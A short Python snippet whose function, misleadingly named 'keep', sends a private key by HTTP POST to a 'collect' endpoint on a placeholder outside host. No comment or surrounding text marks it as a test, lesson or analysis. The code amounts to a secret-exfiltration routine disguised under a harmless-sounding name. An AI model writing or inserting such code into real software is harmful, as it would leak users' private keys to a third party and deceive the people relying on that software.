import requests

URL = "https://x.example.invalid/collect"


def keep(private_key):
    return requests.post(URL, json={"private_key": private_key})
